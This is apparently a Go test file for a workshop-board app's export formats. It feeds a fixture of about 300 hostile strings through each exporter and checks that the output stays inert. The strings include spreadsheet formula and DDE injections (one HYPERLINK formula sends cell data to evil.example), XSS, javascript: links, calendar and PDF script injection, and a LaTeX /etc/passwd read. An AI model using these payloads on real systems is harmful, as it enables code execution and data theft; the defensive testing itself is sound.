package export

import (
	"bytes"
	"encoding/xml"
	"fmt"
	"io"
	"math/rand/v2"
	"reflect"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/pathboard/pathboard/server/board"
	"github.com/pathboard/pathboard/server/export/pdf/pdftest"
	"github.com/pathboard/pathboard/server/workshop"
)

// hostile are 300 texts that have broken exports somewhere: beginnings that
// spreadsheets calculate, markup of each format, addresses, directions, and
// characters that a format cannot hold.
func hostile() []string {
	starts := []string{"", "=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "＋", "|", "%", "'=", "\u3000=", "\ufeff=", "\u200b=", "a\n=", "\x00=", "\x7f@"}
	bodies := []string{
		`HYPERLINK("https://evil.example/?"&A1,"x")`, `cmd|' /C calc'!A0`, `<script>alert(1)</script>`, `<img src=https://evil.example/x.png onerror=alert(1)>`,
		"](javascript:alert(1))", "![x](https://evil.example/x.png)", "https://evil.example", "]]>&lt;&#x3c;", "END:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
		") Tj ET EMC /JS (app.alert(1))", "<</S/JavaScript>>", "\u202egnp.exe\u2066", "😀👩‍👧\u0000\u0001\ufffe\uffff", "Zażo\u0301\u0142\u0107 {{7*7}} ${x} \\input{/etc/passwd}",
		strings.Repeat("ą", 400),
	}
	var out []string
	for _, s := range starts {
		for _, b := range bodies {
			out = append(out, s+b)
		}
	}
	return out
}

// hostileReport has the text everywhere a participant or facilitator can write.
func hostileReport(t *testing.T, s string) *Report {
	t.Helper()
	src := sample(workshop.Polish)
	w := *src.Workshop
	w.Title, w.City = s, s
	w.Groups = []workshop.Group{{ID: "g1", Name: s, Area: "economy"}}
	w.Participants = []workshop.Participant{{ID: "p1", Name: s, Department: s}}
	w.Polls = []workshop.Poll{{Title: s, Counted: true, Results: []workshop.PollResult{{Group: "g1", Text: s, Dots: 1}}}}
	src.Feedback = &workshop.FeedbackResult{Answers: 1, Texts: []string{s}}
	src.Workshop = &w
	src.Board = func(workshop.Group) (board.Board, error) {
		return board.Board{
			Title: s, Problem: s,
			Cards: []board.Card{
				{ID: "a", Kind: "action", Stage: "problem", Text: s, Owner: s, Due: s, Status: s, Tags: []string{s}, Author: "p1"},
				{ID: "b", Kind: s, Stage: s, Text: s, Ref: s}, {ID: "c", Kind: "method", Stage: "data", Text: s, Due: "2027-01-01", Extra: pictureExtra(imageOne, s)},
				{ID: "d", Kind: "tool", Stage: "data", Text: s, Extra: pictureExtra(imageGone, s)}, {ID: "e", Kind: "tool", Stage: "data", Text: s, Extra: map[string]any{"archivedAt": 1.0}},
				{ID: string([]rune(s)[:min(20, len([]rune(s)))]), Kind: "action", Stage: "data", Text: s, Due: "2027-01-01"},
			},
			Links: []board.Link{{ID: "l", From: "a", To: "b", Label: s}}, Stages: []board.Stage{{ID: "data", Summary: s}},
			Comments: []board.Comment{{ID: "k", Card: "a", Author: "p1", Text: s}},
		}, nil
	}
	return built(t, src)
}

func pictureExtra(id, alt string) map[string]any {
	return map[string]any{"image": map[string]any{"id": id, "width": 60.0, "height": 40.0, "alt": alt}}
}

// inert fails for markup that would run, calculate or fetch when the file is
// opened; what people wrote may stand in it as text only.
func inert(t *testing.T, name string, body []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(body))
	for {
		token, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Fatalf("%s: %v\n%s", name, err, body)
		}
		e, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		own := e.Name.Local == "image" && slices.ContainsFunc(e.Attr, func(a xml.Attr) bool {
			return a.Name.Local == "href" && dataJPEG.MatchString(a.Value)
		})
		if !own && slices.Contains([]string{"f", "script", "img", "image", "foreignObject", "use", "a", "OLEObject", "object", "altChunk", "hyperlink"}, e.Name.Local) {
			t.Errorf("%s has an element %s", name, e.Name.Local)
		}
		for _, a := range e.Attr {
			if strings.HasPrefix(strings.ToLower(a.Name.Local), "on") || a.Name.Local == "href" && !own || a.Name.Local == "TargetMode" || !saysOnly(a) && strings.Contains(strings.ToLower(a.Value), "javascript:") {
				t.Errorf("%s has %s=%q", name, a.Name.Local, a.Value)
			}
		}
	}
}

// saysOnly reports whether an attribute is what is read out for a picture.
func saysOnly(a xml.Attr) bool { return a.Name.Local == "descr" || a.Name.Local == "aria-label" }

// dataJPEG is a picture that stands in the file itself.
var dataJPEG = regexp.MustCompile(`^data:image/jpeg;base64,[A-Za-z0-9+/=]*$`)

// activeMarkdown matches tags but our own line break, links and bare addresses.
var activeMarkdown = regexp.MustCompile(`(^|[^\\])(<([ac-zA-Z/!]|b[^r])|\]\((java|http)|https?://evil)`)

func TestHostileTextIsHarmlessInEveryFormat(t *testing.T) {
	texts := hostile()
	if len(texts) < 300 {
		t.Fatalf("%d texts", len(texts))
	}
	for i, s := range texts {
		if i%every != 0 {
			continue
		}
		r := hostileReport(t, s)
		for _, p := range append(unzip(t, whole(t, r, "docx")), unzip(t, whole(t, r, "xlsx"))...) {
			if !strings.HasSuffix(p.name, ".jpg") {
				inert(t, fmt.Sprintf("text %d, %s", i, p.name), p.body)
			}
		}
		svg := group(t, r, 0, "svg")
		inert(t, fmt.Sprintf("text %d, svg", i), svg)
		for _, row := range rows(t, whole(t, r, "csv")) {
			for _, cell := range row {
				if lead := strings.TrimLeft(cell, " \t\n\u00a0\u3000\ufeff\u200b"); lead != "" && strings.ContainsRune("=+-@＝＋－＠|%", []rune(lead)[0]) {
					t.Errorf("text %d %q gives cell %q", i, s, cell)
				}
			}
		}
		md := string(whole(t, r, "md"))
		if found := activeMarkdown.FindString(md); found != "" {
			t.Errorf("text %d %q: active Markdown %q", i, s, found)
		}
		for _, line := range strings.Split(string(whole(t, r, "ics")), "\r\n") {
			if len(line) > 75 || strings.HasPrefix(line, "BEGIN:VALARM") || strings.ContainsAny(line, "\r\n") {
				t.Errorf("text %d %q: calendar line %q", i, s, line)
			}
		}
		for _, format := range []string{"pdf", "a3"} {
			f, err := pdftest.Read(group(t, r, 0, format))
			if err != nil {
				t.Fatalf("text %d %q: %s: %v", i, s, format, err)
			}
			if broken := f.Violations(); len(broken) > 0 {
				t.Errorf("text %d %q: %s breaks PDF/UA: %q", i, s, format, broken)
			}
			if len(f.Links) > 0 || f.Untagged != "" || len(f.Actions) > 0 {
				t.Errorf("text %d %q: %s has links %q, untagged %q, actions %q", i, s, format, f.Links, f.Untagged, f.Actions)
			}
		}
	}
}

// randomBoard is a board of cards of all kinds with everything that can be on
// it: links, comments, tags, cards put aside, pictures, and what a newer program
// wrote.
func randomBoard(r *rand.Rand) board.Board {
	texts := []string{"Zażółć gęślą jaźń", "😀👩‍👧 rodzina", "a\nb", "=cmd()", "1,5; \"cytat\"", strings.Repeat("długo ", 200), "x"}
	text := func() string { return texts[r.IntN(len(texts))] }
	sometimes := func(s string) string { return []string{"", s}[r.IntN(2)] }
	b := board.Board{Title: sometimes("Tytuł"), Problem: text(), Meta: map[string]any{"mood": "dobry"}}
	for i := range 12 + r.IntN(30) {
		c := board.Card{
			ID: fmt.Sprint("c", i), Kind: append(board.Kinds, "hologram")[i%(len(board.Kinds)+1)], Stage: []string{"data", "problem", "own"}[r.IntN(3)],
			Order: board.Order(i), Text: fmt.Sprint(i, " ", text()), Author: sometimes("p1"), Owner: sometimes(text()), CreatedAt: 1, Color: sometimes("leaf"),
			Due: sometimes("2027-01-01"), Status: sometimes("doing"), Ref: sometimes("data.gus-bdl"),
		}
		if r.IntN(3) == 0 {
			c.Tags = []string{"pilne", "ważne"}
		}
		switch r.IntN(6) {
		case 0:
			c.Extra = map[string]any{"archivedAt": 5.0}
		case 1:
			c.Extra = pictureExtra([]string{imageOne, imageGone}[r.IntN(2)], sometimes(text()))
		case 2:
			c.Extra = map[string]any{"future": map[string]any{"deep": []any{1.0, "dwa"}}}
		}
		b.Cards = append(b.Cards, c)
	}
	for i := range r.IntN(8) {
		b.Links = append(b.Links, board.Link{ID: fmt.Sprint("l", i), From: fmt.Sprint("c", r.IntN(12)), To: fmt.Sprint("c", r.IntN(12)), Label: sometimes("zasila"), Kind: sometimes("feeds")})
		b.Comments = append(b.Comments, board.Comment{ID: fmt.Sprint("k", i), Card: fmt.Sprint("c", r.IntN(12)), Author: "p2", Text: fmt.Sprint("uwaga ", i), CreatedAt: int64(i + 1), ResolvedAt: int64(r.IntN(2)), ReplyTo: sometimes("k0")})
	}
	b.Stages = []board.Stage{{ID: "problem", Summary: sometimes(text()), Done: r.IntN(2) == 0}}
	return b
}

// TestExportsEqualTheBoard: on random boards each format holds each card, once,
// with its text, links and comments; the JSON is the board, and so is the
// archive with its pictures.
func TestExportsEqualTheBoard(t *testing.T) {
	for seed := range uint64(40) {
		want := randomBoard(rand.New(rand.NewPCG(seed, 3)))
		src := sample(workshop.Polish)
		src.Board = func(workshop.Group) (board.Board, error) { return want, nil }
		r := built(t, src)
		decoded, err := board.Decode(group(t, r, 1, "json"))
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(decoded, want) {
			t.Fatalf("seed %d: the import is not the board:\n%+v\n%+v", seed, decoded, want)
		}
		unpacked, pictures, err := board.DecodeArchive(group(t, r, 1, "zip"))
		if err != nil {
			t.Fatal(err)
		}
		_, there := pictures[imageOne]
		if !reflect.DeepEqual(unpacked, want) || there != slices.Contains(want.Images(), imageOne) || pictures[imageGone] != nil {
			t.Fatalf("seed %d: the archive is not the board with its pictures", seed)
		}
		if got := len(rows(t, group(t, r, 1, "csv"))) - 1; got != len(want.Cards) {
			t.Errorf("seed %d: %d rows of %d cards", seed, got, len(want.Cards))
		}
		everyTextIsThere(t, seed, r, want)
	}
}

func everyTextIsThere(t *testing.T, seed uint64, r *Report, want board.Board) {
	t.Helper()
	f, err := pdftest.Read(group(t, r, 1, "pdf"))
	if err != nil {
		t.Fatal(err)
	}
	tags := regexp.MustCompile(`<[^>]*>`)
	bare := func(part []byte) string {
		return squeeze(tags.ReplaceAllString(strings.ReplaceAll(string(part), "<w:br/>", " "), ""))
	}
	outline := squeeze(f.Outline())
	docx := bare(unzip(t, group(t, r, 1, "docx"))[0].body)
	texts := map[string]string{}
	for _, c := range want.Cards {
		texts[c.ID] = c.Text
		if !strings.Contains(outline, squeeze(c.Text)) {
			t.Errorf("seed %d: the PDF lacks %q", seed, c.Text)
		}
		if !strings.Contains(docx, squeeze(xmlText(c.Text))) {
			t.Errorf("seed %d: the document lacks %q", seed, c.Text)
		}
	}
	shown := map[string]bool{}
	for _, c := range want.Cards {
		shown[c.ID] = !c.Aside()
	}
	for _, l := range want.Links {
		line := squeeze(texts[l.From] + " → " + texts[l.To])
		if strings.Contains(outline, line) != (shown[l.From] && shown[l.To]) {
			t.Errorf("seed %d: link %q: in the PDF %v", seed, line, strings.Contains(outline, line))
		}
	}
	var sheets strings.Builder
	for _, p := range unzip(t, group(t, r, 1, "xlsx")) {
		sheets.Write(p.body)
	}
	for _, c := range want.Comments {
		if !strings.Contains(sheets.String(), c.Text) {
			t.Errorf("seed %d: the sheets lack comment %q", seed, c.Text)
		}
	}
}

func squeeze(s string) string { return strings.Join(strings.Fields(s), " ") }

// TestLargeWorkshopIsWrittenInBoundedMemory: 120 groups of 100 cards in every
// format at once need far less memory than the files are large.
func TestLargeWorkshopIsWrittenInBoundedMemory(t *testing.T) {
	src := sample(workshop.Polish)
	w := *src.Workshop
	w.Groups = nil
	for i := range 120 {
		w.Groups = append(w.Groups, workshop.Group{ID: workshop.GroupID(fmt.Sprint("g", i)), Name: fmt.Sprint("Grupa ", i), Area: "economy"})
	}
	src.Workshop = &w
	src.Board = func(workshop.Group) (board.Board, error) {
		b := board.Board{Problem: "Pustostany"}
		for i := range 100 {
			b.Cards = append(b.Cards, board.Card{ID: fmt.Sprint(i), Kind: board.Kinds[i%12], Stage: "data", Text: strings.Repeat("Dane o lokalach ", 8)})
		}
		return b, nil
	}
	r := built(t, src)
	var before, after runtime.MemStats
	for _, format := range WorkshopFormats {
		if format == "zip" {
			continue
		}
		runtime.GC()
		runtime.ReadMemStats(&before)
		f, err := r.Whole(format)
		if err != nil {
			t.Fatal(err)
		}
		held := &peak{}
		if err := f.Write(held); err != nil {
			t.Fatal(err)
		}
		after = held.most
		if grown := int64(after.HeapInuse) - int64(before.HeapInuse); grown > 96<<20 {
			t.Errorf("%s holds %d MB more while it is written", format, grown>>20)
		}
	}
}

// peak is a writer that looks at the memory in use every so often.
type peak struct {
	written, next int
	most          runtime.MemStats
}

func (p *peak) Write(b []byte) (int, error) {
	p.written += len(b)
	if p.written >= p.next {
		var now runtime.MemStats
		runtime.ReadMemStats(&now)
		if now.HeapInuse > p.most.HeapInuse {
			p.most = now
		}
		p.next = p.written + 1<<20
	}
	return len(b), nil
}

// TestReportsOfNothingAndOfMany: an empty workshop says so in place of empty
// tables, and a source that many groups used names some and counts the others.
func TestReportsOfNothingAndOfMany(t *testing.T) {
	src := sample(workshop.Polish)
	w := *src.Workshop
	w.Groups, w.Polls = nil, nil
	src.Workshop, src.Feedback = &w, nil
	empty := string(whole(t, built(t, src), "md"))
	for _, want := range []string{"W warsztacie nie ma jeszcze grup.", "Żadna grupa nie wskazała danych ani narzędzi.", "Żadna grupa nie zapisała działań."} {
		if !strings.Contains(empty, want) {
			t.Errorf("an empty workshop lacks %q:\n%s", want, empty)
		}
	}
	for i := range 12 {
		w.Groups = append(w.Groups, workshop.Group{ID: workshop.GroupID(fmt.Sprint("g", i)), Name: fmt.Sprint("Grupa ", i), Area: "economy"})
	}
	src.Board = func(workshop.Group) (board.Board, error) {
		return board.Board{Cards: []board.Card{{ID: "a", Kind: "data", Stage: "data", Text: "Zasób lokali"}}}, nil
	}
	r := built(t, src)
	if md := string(whole(t, r, "md")); !strings.Contains(md, "Grupa 7 (+4)") {
		t.Errorf("the report says\n%s", md)
	}
	if all := r.sourcesTable(len(r.Groups)).Rows[0][4]; !strings.HasSuffix(all, "Grupa 11") {
		t.Errorf("the sheets name %q", all)
	}
}
